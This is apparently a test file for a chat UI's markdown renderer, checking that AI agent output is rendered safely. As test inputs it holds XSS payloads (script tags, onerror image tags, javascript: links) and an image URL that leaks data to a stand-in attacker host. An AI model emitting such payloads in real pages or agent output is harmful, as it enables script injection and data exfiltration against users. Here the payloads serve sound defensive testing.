import { screen, waitFor } from "@testing-library/react";
import { AgentRuntimeValidationError } from "../../src/core/errors";
import { markdown } from "../../src/markdown";
import { chatMessage } from "../../src/react/components/test-utils/scripted-chat";
import { renderChat } from "./render-chat";

function renderAnswer(text: string, on = true) {
  return renderChat({
    messages: [chatMessage({ role: "assistant", text })],
    props: { markdown: on && markdown },
  });
}

interface MdNode {
  type: string;
  value?: string;
  children?: MdNode[];
}

function walk(node: MdNode, visit: (node: MdNode) => void): void {
  visit(node);
  node.children?.forEach((child) => walk(child, visit));
}

/** A remark plugin that shouts every text node. */
const shout = () => (tree: MdNode) =>
  walk(tree, (node) => {
    if (node.type === "text" && node.value) node.value = node.value.toUpperCase();
  });

/** A remark plugin that tries to inject raw HTML. */
const injectHtml = () => (tree: MdNode) => {
  tree.children?.push({ type: "html", value: '<img src=x onerror="window.__pwned=1">' });
};

describe("markdown", () => {
  it("renders agent markdown once the markdown module has loaded", async () => {
    renderAnswer("Some **bold** text and `code`.\n\n```js\nconst x = 1;\n```");
    expect(await screen.findByText("bold", { selector: "strong" })).toBeInTheDocument();
    expect(screen.getByText("code", { selector: "code" })).toBeInTheDocument();
    await waitFor(() =>
      expect(document.querySelector("pre code")).toHaveTextContent("const x = 1;"),
    );
  });

  it("leaves user messages as plain text", async () => {
    renderChat({
      messages: [
        chatMessage({ role: "user", text: "**mine**" }),
        chatMessage({ role: "assistant", text: "**theirs**" }),
      ],
      props: { markdown },
    });
    await screen.findByText("theirs", { selector: "strong" });
    expect(screen.getByText("**mine**")).toBeInTheDocument();
  });

  it("opens links in a new tab without an opener", async () => {
    renderAnswer("See [the docs](https://example.com/docs).");
    const link = await screen.findByRole("link", { name: "the docs" });
    expect(link).toHaveAttribute("href", "https://example.com/docs");
    expect(link).toHaveAttribute("target", "_blank");
    expect(link).toHaveAttribute("rel", "noopener noreferrer");
  });

  it("drops javascript:, data: and vbscript: links, keeping their text", async () => {
    renderAnswer(
      "[one](javascript:alert(1)) [two](data:text/html,<b>x</b>) [three](vbscript:x) [four](java&#x09;script:alert(1))",
    );
    await screen.findByText("one");
    expect(screen.queryAllByRole("link")).toEqual([]);
    expect(document.querySelectorAll("[href]")).toHaveLength(0);
    for (const text of ["one", "two", "three", "four"])
      expect(screen.getByText(text)).toBeInTheDocument();
  });

  it("shows HTML in markdown as text, never as elements", async () => {
    renderAnswer(
      'Hello <script>window.__pwned = 1</script> <img src=x onerror="window.__pwned = 1"> **there**',
    );
    await screen.findByText("there", { selector: "strong" });
    const answer = document.querySelector(".acr-markdown")!;
    expect(answer.querySelector("script, img, iframe")).toBeNull();
    expect(answer).toHaveTextContent("<script>window.__pwned = 1</script>");
  });

  it("turns images into links so agent output cannot make the browser fetch on its own", async () => {
    renderAnswer("![a chart](https://attacker.example/leak?data=secret)");
    const link = await screen.findByRole("link", { name: "a chart" });
    expect(link).toHaveAttribute("href", "https://attacker.example/leak?data=secret");
    expect(document.querySelector("img")).toBeNull();
  });

  it("applies remark plugins given in the markdown options", async () => {
    renderChat({
      messages: [chatMessage({ role: "assistant", text: "quiet **words**" })],
      props: { markdown: markdown({ remarkPlugins: [shout] }) },
    });
    expect(await screen.findByText("WORDS", { selector: "strong" })).toBeInTheDocument();
  });

  it("keeps HTML a plugin injects as text", async () => {
    renderChat({
      messages: [chatMessage({ role: "assistant", text: "hello **there**" })],
      props: { markdown: markdown({ remarkPlugins: [injectHtml] }) },
    });
    await screen.findByText("there", { selector: "strong" });
    expect(document.querySelector(".acr-markdown img")).toBeNull();
    expect(document.querySelector(".acr-markdown")).toHaveTextContent(
      '<img src=x onerror="window.__pwned=1">',
    );
  });

  it("shows a text longer than markdown.maxChars as plain text", async () => {
    renderChat({
      messages: [
        chatMessage({ role: "assistant", text: "**short**" }),
        chatMessage({ role: "assistant", text: "**long** enough to pass the cap" }),
      ],
      props: { markdown: markdown({ maxChars: 20 }) },
    });
    await screen.findByText("short", { selector: "strong" });
    expect(screen.getByText("**long** enough to pass the cap")).toBeInTheDocument();
    expect(screen.queryByText("long", { selector: "strong" })).not.toBeInTheDocument();
  });

  it("refuses invalid options when the renderer is made", () => {
    expect(() => markdown({ maxChars: 0 })).toThrow(
      new AgentRuntimeValidationError("markdown.maxChars must be a whole number >= 1 (got 0)"),
    );
    expect(() => markdown({ remarkPlugins: "remark-gfm" as never })).toThrow(
      new AgentRuntimeValidationError("markdown.remarkPlugins must be an array (got a string)"),
    );
    expect(() => markdown(null as never)).toThrow(AgentRuntimeValidationError);
  });

  it.each([
    ["true", true, "a boolean"],
    ["options of earlier versions", { remarkPlugins: [shout] }, "an object"],
    ["the module", { markdown }, "an object"],
  ])("refuses %s as the markdown prop, saying to import the renderer", (_name, value, kind) => {
    vi.spyOn(console, "error").mockImplementation(() => {});
    expect(() => renderChat({ messages: [], props: { markdown: value as never } })).toThrow(
      new AgentRuntimeValidationError(
        `markdown must be the renderer from "agentcore-react/markdown" (import { markdown } from "agentcore-react/markdown", then pass markdown={markdown}), or false (got ${kind})`,
      ),
    );
  });

  it("shows a block past a guard as text and the blocks around it as markdown", async () => {
    const deep = `${">".repeat(30)} deep`;
    renderAnswer(`**before**\n\n${deep}\n\n**after**`);
    await screen.findByText("before", { selector: "strong" });
    // Blocks become markdown one after another (a pending block shows as text until its turn).
    expect(await screen.findByText("after", { selector: "strong" })).toBeInTheDocument();
    expect(screen.getByText(deep)).toBeInTheDocument();
    expect(document.querySelector(".acr-markdown blockquote")).toBeNull();
  });

  it("is off by default", () => {
    renderAnswer("Some **bold** text", false);
    expect(screen.getByText("Some **bold** text")).toBeInTheDocument();
  });
});
